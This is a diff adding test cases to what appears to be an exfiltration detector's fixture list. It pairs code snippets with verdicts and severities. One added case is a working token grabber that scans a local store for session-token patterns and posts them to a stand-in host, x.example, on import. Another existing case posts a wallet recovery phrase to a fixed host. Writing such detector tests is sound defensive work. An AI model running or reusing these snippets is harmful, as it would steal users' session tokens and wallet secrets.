@@ -437,6 +437,18 @@ CASES = [
     ({"demo/wallet.py": "import requests\ndef restore(seed_phrase, path):\n"
                         "    return requests.post(f'https://x.example/{path}', data=f'{seed_phrase}')\n"},
      "code.exfiltration", M, "a recovery phrase posted to a fixed host under any path"),
+    ({"demo/grab.py": "import os, re, requests, threading\nclass Grab:\n    def tokens(self, path):\n"
+                      "        found = []\n        for name in os.listdir(path):\n"
+                      "            text = open(os.path.join(path, name), errors='ignore').read()\n"
+                      "            found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', text)\n"
+                      "        return found\n    def main(self):\n"
+                      "        requests.post('https://x.example/h', json={'t': self.tokens('ldb')})\n"
+                      "threading.Thread(target=Grab().main).start()\n"},
+     "code.exfiltration", H, "a module that greps files for session tokens and posts them"),
+    ({"demo/dates.py": "import re, requests\ndef parse(text):\n"
+                       "    days = re.findall(r'\\d{4}-\\d{2}-\\d{2}', text)\n"
+                       "    return requests.post('https://x.example/d', json={'d': days})\n"},
+     "code.exfiltration", None, "benign: a date pattern's counts are no token grabber's"),
     ({"demo/wallet.py": "import requests\ndef login(password):\n"
                         "    return requests.post('https://x.example/login', json={'password': password})\n"},
      "code.exfiltration", None, "benign: a password sent to the service it is for"),
